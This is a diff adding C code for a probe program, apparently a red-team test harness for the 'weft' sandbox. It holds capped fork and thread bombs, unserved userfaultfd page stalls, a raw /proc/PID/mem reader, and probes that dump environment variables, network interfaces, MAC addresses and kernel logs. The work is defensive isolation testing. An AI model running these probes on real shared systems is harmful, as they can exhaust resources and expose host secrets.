+static int p_host(char **a) {
+	const char *h = a[0];
+	struct stat st;
+	if (!strcmp(h, "file"))
+		vfile(a[1]);
+	else if (!strcmp(h, "line"))
+		vline(a[1], a[2]);
+	else if (!strcmp(h, "uname")) {
+		struct utsname u;
+		uname(&u);
+		out("V: nodename %s\nV: release %s %s\n", u.nodename, u.release, u.version);
+	} else if (!strcmp(h, "gethostname")) {
+		char n[256] = {0};
+		gethostname(n, sizeof n);
+		out("V: hostname %s\n", n);
+	} else if (!strcmp(h, "ino")) {
+		rc("stat", stat(a[1], &st));
+		out("V: ino %lu dev %lu\n", (unsigned long)st.st_ino, (unsigned long)st.st_dev);
+	} else if (!strcmp(h, "rlimit")) {
+		struct rlimit r;
+		getrlimit(RLIMIT_NPROC, &r);
+		out("V: nproc %lu %lu\n", (unsigned long)r.rlim_cur, (unsigned long)r.rlim_max);
+	} else if (!strcmp(h, "sysinfo")) {
+		struct sysinfo si;
+		sysinfo(&si);
+		out("V: totalram %lu\n", si.totalram * si.mem_unit);
+	} else if (!strcmp(h, "statfs")) {
+		struct statfs sf;
+		statfs("/", &sf);
+		out("V: blocks %lu fsid %x:%x\n", (unsigned long)sf.f_blocks, sf.f_fsid.__val[0], sf.f_fsid.__val[1]);
+	} else if (!strcmp(h, "ifconf")) {
+		struct ifreq rq[32];
+		struct ifconf ic = {.ifc_len = sizeof rq, .ifc_req = rq};
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+		rc("ioctl(SIOCGIFCONF)", ioctl(s, SIOCGIFCONF, &ic));
+		for (int i = 0; i < ic.ifc_len / (int)sizeof(struct ifreq); i++) {
+			unsigned char *ip = (unsigned char *)&rq[i].ifr_addr.sa_data[2];
+			if (ip[0] != 127)
+				out("V: if %s %u.%u.%u.%u\n", rq[i].ifr_name, ip[0], ip[1], ip[2], ip[3]);
+		}
+	} else if (!strcmp(h, "hwaddr")) {
+		struct ifreq r = {0};
+		for (int i = 2; i < 8; i++) {
+			if (!if_indextoname(i, r.ifr_name))
+				continue;
+			int s = socket(AF_INET, SOCK_DGRAM, 0);
+			if (ioctl(s, SIOCGIFHWADDR, &r) == 0) {
+				unsigned char *m = (unsigned char *)r.ifr_hwaddr.sa_data;
+				out("V: mac %02x:%02x:%02x:%02x:%02x:%02x\n", m[0], m[1], m[2], m[3], m[4], m[5]);
+			}
+		}
+	} else if (!strcmp(h, "getpriority")) {
+		errno = 0;
+		int n = getpriority(PRIO_PROCESS, atoi(a[1]));
+		out("getpriority = %d %s\n", n, errno ? strerror(errno) : "");
+		if (!errno)
+			out("V: nice %d\n", n);
+	} else if (!strcmp(h, "cwd")) {
+		char b[4096] = {0};
+		getcwd(b, sizeof b);
+		out("CWD %s\n", b);
+		ssize_t k = readlink("/proc/self/cwd", b, sizeof b - 1);
+		if (k > 0)
+			out("CWD %.*s\n", (int)k, b);
+	} else if (!strcmp(h, "exe")) {
+		char b[4096] = {0};
+		ssize_t k = readlink("/proc/self/exe", b, sizeof b - 1);
+		if (k > 0)
+			out("EXE %.*s\n", (int)k, b);
+	} else if (!strcmp(h, "ppid")) {
+		char b[4096];
+		slurp("/proc/self/stat", b, sizeof b);
+		char *r = strrchr(b, ')');
+		int pp = 0;
+		if (r)
+			sscanf(r + 2, "%*c %d", &pp);
+		out("PID stat-ppid %d\n", pp);
+		slurp("/proc/self/status", b, sizeof b);
+		for (char *l = strtok(b, "\n"); l; l = strtok(NULL, "\n"))
+			if (!strncmp(l, "PPid:", 5) || !strncmp(l, "NSpid:", 6) || !strncmp(l, "Tgid:", 5))
+				out("PID %s\n", l);
+	} else if (!strcmp(h, "environ")) {
+		extern char **environ;
+		for (char **e = environ; *e; e++)
+			out("ENV %s\n", *e);
+	} else if (!strcmp(h, "tmp")) {
+		DIR *d = opendir("/tmp");
+		struct dirent *e;
+		while (d && (e = readdir(d)))
+			out("TMP %s\n", e->d_name);
+	} else if (!strcmp(h, "kmsgread")) {
+		int fd = rc("open(/dev/kmsg)", open("/dev/kmsg", O_RDONLY | O_NONBLOCK));
+		char b[8192];
+		ssize_t k;
+		while (fd >= 0 && (k = read(fd, b, sizeof b - 1)) > 0)
+			out("KMSG %.*s", (int)k, b);
+	} else if (!strcmp(h, "kmsgwrite")) {
+		int fd = rc("open(/dev/kmsg, O_WRONLY)", open("/dev/kmsg", O_WRONLY));
+		char line[256];
+		snprintf(line, sizeof line, "%s\n", a[1]);
+		if (fd >= 0)
+			rc("write(/dev/kmsg)", write(fd, line, strlen(line)));
+	} else if (!strcmp(h, "syslog")) {
+		static char b[1 << 20];
+		int k = rc("klogctl(READ_ALL)", klogctl(3, b, sizeof b));
+		for (char *l = k > 0 ? strtok(b, "\n") : NULL; l; l = strtok(NULL, "\n"))
+			if (strstr(l, "weft-redteam"))
+				out("KMSG %s\n", l);
+	}
+	return 0;
+}
+
+// --- bounds: fork bombs, userfaultfd, FIFOs ------------------------------
+
+static void *idle(void *x) {
+	(void)x;
+	pause();
+	return 0;
+}
+
+// bomb HOW: make processes (or threads) without end, up to a cap that
+// keeps a shared machine alive.
+static int p_bomb(char **a) {
+	int made = 0;
+	if (!strcmp(a[0], "idle"))
+		return pause();
+	if (!strcmp(a[0], "fork")) {
+		for (; made < 2000; made++) {
+			pid_t p = fork();
+			if (p == 0) {
+				pause();
+				_exit(0);
+			}
+			if (p < 0)
+				break;
+		}
+	} else if (!strcmp(a[0], "tree")) {
+		for (int depth = 0; depth < 11; depth++)
+			if (fork() < 0)
+				break;
+		made = 2048;
+	} else if (!strcmp(a[0], "threads")) {
+		pthread_t t;
+		for (; made < 2000; made++)
+			if (pthread_create(&t, NULL, idle, NULL))
+				break;
+	} else if (!strcmp(a[0], "exec")) {
+		for (; made < 2000; made++) {
+			pid_t p = vfork();
+			if (p == 0) {
+				execl("/proc/self/exe", "probe", ".", "0", "bomb", "idle", (char *)0);
+				_exit(1);
+			}
+			if (p < 0)
+				break;
+		}
+	}
+	out("made %d\n", made);
+	pause();
+	return 0;
+}
+
+// uffd HOW USE: register a page with userfaultfd (device or syscall),
+// never serve its faults, and pass the page to a system call.
+static int p_uffd(char **a) {
+	int u;
+	if (!strcmp(a[0], "dev")) {
+		int d = rc("open(/dev/userfaultfd)", open("/dev/userfaultfd", O_RDWR | O_CLOEXEC));
+		u = rc("ioctl(USERFAULTFD_IOC_NEW)", ioctl(d, USERFAULTFD_IOC_NEW, O_CLOEXEC));
+	} else
+		u = rc("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
+	struct uffdio_api api = {.api = UFFD_API};
+	rc("ioctl(UFFDIO_API)", ioctl(u, UFFDIO_API, &api));
+	char *pg = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	struct uffdio_register reg = {.range = {(unsigned long)pg, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
+	rc("ioctl(UFFDIO_REGISTER)", ioctl(u, UFFDIO_REGISTER, &reg));
+	const char *use = a[1];
+	if (!strcmp(use, "write"))
+		rc("write(1, page)", write(1, pg, 16));
+	else if (!strcmp(use, "open"))
+		rc("open(page)", open(pg, O_RDONLY));
+	else if (!strcmp(use, "nanosleep"))
+		rc("nanosleep(page)", nanosleep((struct timespec *)pg, NULL));
+	else if (!strcmp(use, "connect")) {
+		int s = socket(AF_INET, SOCK_STREAM, 0);
+		rc("connect(page)", connect(s, (struct sockaddr *)pg, 16));
+	} else if (!strcmp(use, "iov")) {
+		rc("writev(1, page as iovec)", writev(1, (struct iovec *)pg, 1));
+	}
+	out("returned\n");
+	return 0;
+}
+
+static int p_fifo(char **a) {
+	int fd = rc("open(host fifo)", open(a[0], O_RDONLY));
+	char c;
+	if (fd >= 0)
+		rc("read", read(fd, &c, 1));
+	return 0;
+}
+
+// --- the script's native helpers ------------------------------------------
+
+// snap PATH...: one line per file: mode, owner, size, times, inode,
+// flags, project id, version, xattrs, content hash.
+static int h_snap(int n, char **a) {
+	for (int i = 0; i < n; i++) {
+		struct stat st;
+		if (lstat(a[i], &st) < 0) {
+			printf("%s absent\n", a[i]);
+			continue;
+		}
+		int fl = -1, ver = -1;
+		struct fsxattr fx = {0};
+		char xl[1024] = {0}, data[65536];
+		int fd = open(a[i], O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
+		ssize_t k = 0;
+		if (fd >= 0) {
+			ioctl(fd, FS_IOC_GETFLAGS, &fl);
+			ioctl(fd, FS_IOC_GETVERSION, &ver);
+			ioctl(fd, FS_IOC_FSGETXATTR, &fx);
+			if (S_ISREG(st.st_mode))
+				k = read(fd, data, sizeof data);
+			close(fd);
+		}
+		ssize_t xn = llistxattr(a[i], xl, sizeof xl);
+		for (ssize_t j = 0; j + 1 < xn; j++)
+			if (!xl[j])
+				xl[j] = ',';
+		printf("%s mode %o uid %d gid %d size %ld mtime %ld.%ld ino %lu flags %x proj %u ver %d xattr [%s] hash %016llx\n",
+		       a[i], st.st_mode, st.st_uid, st.st_gid, (long)st.st_size, (long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec,
+		       (unsigned long)st.st_ino, fl, fx.fsx_projid, ver, xl,
+		       (unsigned long long)fnv(data, k > 0 ? k : 0));
+	}
+	return 0;
+}
+
+// peek PID ADDR: 8 bytes of a process's memory, in hex.
+static int h_peek(char **a) {
+	char p[64];
+	unsigned char b[8] = {0};
+	snprintf(p, sizeof p, "/proc/%s/mem", a[0]);
+	int fd = open(p, O_RDONLY);
+	if (fd < 0 || pread(fd, b, 8, strtoull(a[1], 0, 0)) != 8)
+		return printf("unreadable\n"), 0;
+	for (int i = 0; i < 8; i++)
+		printf("%02x", b[i]);
+	printf("\n");
+	return 0;
+}
+
+// pty LOG MARK CMD...: run CMD with a new pseudo-terminal as its
+// controlling terminal (and stdin/stdout/stderr), copy what it prints to
+// LOG, then report what CMD's descendants did to the terminal: input
+// pushed into it (TIOCSTI), a changed window size or mode, and whether
+// MARK was written to it other than as weft's prefixed node output.
+static int h_pty(char **a) {
+	int m, s;
+	struct winsize ws = {24, 80, 0, 0};
+	if (openpty(&m, &s, NULL, NULL, &ws) < 0)
+		return perror("openpty"), 2;
+	struct termios before;
+	tcgetattr(s, &before);
+	pid_t c = fork();
+	if (c == 0) {
+		setsid();
+		ioctl(s, TIOCSCTTY, 0);
+		dup2(s, 0), dup2(s, 1), dup2(s, 2);
+		close(m);
+		execvp(a[2], a + 2);
+		_exit(127);
+	}
+	FILE *log = fopen(a[0], "w");
+	char buf[4096];
+	int st = 0;
+	for (;;) {
+		struct pollfd pf = {m, POLLIN, 0};
+		if (poll(&pf, 1, 100) > 0) {
+			ssize_t k = read(m, buf, sizeof buf);
+			if (k > 0)
+				fwrite(buf, 1, k, log);
+		}
+		if (waitpid(c, &st, WNOHANG) == c)
+			break;
+	}
+	struct pollfd pf = {m, POLLIN, 0};
+	while (poll(&pf, 1, 50) > 0) {
+		ssize_t k = read(m, buf, sizeof buf);
+		if (k <= 0)
+			break;
+		fwrite(buf, 1, k, log);
+	}
+	fclose(log);
+	struct winsize after;
+	struct termios now;
+	ioctl(s, TIOCGWINSZ, &after);
+	tcgetattr(s, &now);
+	int pending = 0;
+	ioctl(s, FIONREAD, &pending);
+	char in[4096] = {0};
+	struct termios raw = now;
+	cfmakeraw(&raw);
+	tcsetattr(s, TCSANOW, &raw);
+	fcntl(s, F_SETFL, O_NONBLOCK);
+	ssize_t k = read(s, in, sizeof in - 1);
+	if (k > 0 && strstr(in, a[1]))
+		printf("terminal input injected: %s\n", a[1]);
+	if (after.ws_row != ws.ws_row || after.ws_col != ws.ws_col)
+		printf("terminal window size changed to %dx%d\n", after.ws_row, after.ws_col);
+	if (now.c_lflag != before.c_lflag || now.c_iflag != before.c_iflag || now.c_oflag != before.c_oflag)
+		printf("terminal mode changed\n");
+	printf("exit %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
+	return 0;
+}
+
+// kmsg NEEDLE: whether the kernel log holds NEEDLE.
+static int h_kmsg(char **a) {
+	int fd = open("/dev/kmsg", O_RDONLY | O_NONBLOCK);
+	char b[8192];
+	ssize_t k;
+	while (fd >= 0 && (k = read(fd, b, sizeof b - 1)) != 0) {
+		if (k < 0) {
+			if (errno == EPIPE)
+				continue;
+			break;
+		}
+		b[k] = 0;
+		if (strstr(b, a[0]))
+			return printf("found\n"), 0;
+	}
+	printf("absent\n");
+	return 0;
+}
+
+// setlk FILE: whether a host writer's write lock on FILE is refused.
+static int h_setlk(char **a) {
+	int fd = open(a[0], O_RDWR);
+	struct flock fl = {.l_type = F_WRLCK, .l_whence = SEEK_SET};
+	printf("%s\n", fcntl(fd, F_SETLK, &fl) < 0 ? "blocked" : "free");
+	return 0;
+}
+
+static int helper(int argc, char **argv) {
+	const char *h = argv[2];
+	if (!strcmp(h, "snap"))
+		return h_snap(argc - 3, argv + 3);
+	if (!strcmp(h, "peek"))
+		return h_peek(argv + 3);
+	if (!strcmp(h, "pty"))
+		return h_pty(argv + 3);
+	if (!strcmp(h, "kmsg"))
+		return h_kmsg(argv + 3);
+	if (!strcmp(h, "setlk"))
+		return h_setlk(argv + 3);
+	fprintf(stderr, "probe: unknown helper %s\n", h);
+	return 2;
+}
+
+int main(int argc, char **argv) {
+	if (argc > 2 && !strcmp(argv[1], "--host"))
+		return helper(argc, argv);
+	if (argc < 4) {
+		fprintf(stderr, "usage: probe RUNDIR ID NAME PARAMS... | probe --host HELPER ARGS...\n");
+		return 2;
+	}
+	const char *name = argv[3];
+	// A probe reading a parameter it was not given gets "", never NULL.
+	static char *a[16];
+	for (int i = 0; i < 16; i++)
+		a[i] = i < argc - 4 ? argv[4 + i] : "";
+	out("probe %s start\n", name);
+	static const struct {
+		const char *name;
+		int (*fn)(char **);
+	} table[] = {
+	    {"path", p_path},       {"dangling", p_dangling}, {"rofd", p_rofd},     {"dirfd", p_dirfd},
+	    {"procread", p_procread}, {"proclink", p_proclink}, {"procscan", p_procscan}, {"memwrite", p_memwrite},
+	    {"getfd", p_getfd},     {"signal", p_signal},     {"prio", p_prio},     {"tty", p_tty},
+	    {"lock", p_lock},       {"inherit", p_inherit},   {"cpu", p_cpu},       {"vvar", p_vvar},
+	    {"clock", p_clock},     {"host", p_host},         {"bomb", p_bomb},     {"uffd", p_uffd},
+	    {"fifo", p_fifo},
+	};
+	if (!strcmp(name, "argv0")) {
+		out("ARGV0 %s\n", argv[0]);
+		return 0;
+	}
+	if (!strcmp(name, "othernode"))
+		return p_othernode(a, argv[2]);
+	if (!strcmp(name, "memread"))
+		return p_memread(a, 0);
+	if (!strcmp(name, "pvmread"))
+		return p_memread(a, 1);
+	for (size_t i = 0; i < sizeof table / sizeof table[0]; i++)
+		if (!strcmp(table[i].name, name))
+			return table[i].fn(a);
+	out("unknown probe %s\n", name);
+	return 2;
+}
